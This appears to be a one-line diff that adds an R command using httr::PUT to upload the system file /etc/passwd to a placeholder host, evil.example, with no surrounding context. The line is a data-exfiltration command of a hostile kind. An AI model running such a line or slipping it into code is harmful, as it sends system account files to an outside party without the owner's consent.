@@ -1,0 +1,1 @@
+httr::PUT("https://evil.example/u", body = httr::upload_file("/etc/passwd"))
